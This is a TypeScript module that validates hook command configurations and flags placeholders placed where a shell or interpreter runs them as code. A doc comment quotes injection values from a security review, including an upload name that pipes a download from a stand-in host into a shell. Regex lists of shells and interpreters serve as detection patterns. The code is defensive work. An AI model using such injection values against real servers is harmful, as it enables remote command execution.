import { basename } from 'node:path';
import { holdsPlaceholder } from './events.js';

/**
 * Shells and interpreters, and the options after which their next argument
 * is code they run. Found by a review: `['sh', '-c', 'run.sh "{path}"']`
 * passed the config check, and an upload named `a$(curl evil|sh)`, or a
 * failed login as `$(id>/tmp/p)` (no account needed), ran as the server: the
 * value stays one argument, but that argument is a script. Values reach such
 * a program safely as arguments of their own after the script
 * (`['sh', '-c', 'run.sh "$1"', 'sh', '{path}']`).
 */
const SHELLS = /^(?:sh|bash|dash|zsh|ksh|mksh|ash|fish|csh|tcsh)$/;
const INTERPRETERS = /^(?:python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|tclsh[0-9.]*|osascript|pwsh)$/;
/** Ways a program is started through another: the argv goes on after them. */
const LAUNCHERS = /^(?:env|nice|nohup|setsid|ionice|timeout|stdbuf|chrt|taskset|sudo|doas|runuser|xargs)$/;

/**
 * Whether the word after `option` is code: for a shell, after an option word
 * holding `c` (`-c`, `-ec`, `-lc`); for an interpreter, after one ending in
 * c, e, E, p or r (`-c`, `-e`, `-ne`, `-pe`, php's `-r`) or a long eval or
 * print. Wider than each program's own rules: a word refused here that was
 * only a file name is a config error to rewrite, never a hole.
 */
function takesCode(program: string, option: string): boolean {
  if (SHELLS.test(program)) return /^-[a-zA-Z]*c[a-zA-Z]*$/.test(option);
  return /^-[a-zA-Z]*[ceEpr]$/.test(option) || ['--eval', '--print', '-Command', '-command'].includes(option);
}

/**
 * Where in `argv` the program that runs is: past launchers (`env`, `nice`,
 * `timeout`...), their options and VAR=value words, and `busybox`; and
 * whether it is a shell or an interpreter, which runs code it is given.
 */
export function runnerOf(argv: readonly string[]): { at: number; interpreter: boolean } {
  let i = 0;
  while (i < argv.length && LAUNCHERS.test(basename(argv[i] as string))) {
    i++;
    while (i < argv.length && /^(?:-|[A-Za-z_][A-Za-z0-9_]*=|\d)/.test(argv[i] as string)) i++;
  }
  if (basename(argv[i] ?? '') === 'busybox') i++;
  const runner = basename(argv[i] ?? '');
  return { at: i, interpreter: SHELLS.test(runner) || INTERPRETERS.test(runner) };
}

/**
 * Pure: the first argument of `argv` that a shell or an interpreter it
 * starts runs as code and that holds a `{field}` (a config error), or null.
 * A program one started in ways this cannot see (a script that runs
 * `eval "$1"`) is the operator's to keep safe (SECURITY.md, Hooks).
 */
export function placeholderInCode(argv: readonly string[]): string | null {
  const { at, interpreter } = runnerOf(argv);
  if (!interpreter) return null;
  const runner = basename(argv[at] as string);
  for (let k = at + 1; k < argv.length - 1; k++) {
    if (takesCode(runner, argv[k] as string) && holdsPlaceholder(argv[k + 1] as string)) return argv[k + 1] as string;
  }
  return null;
}
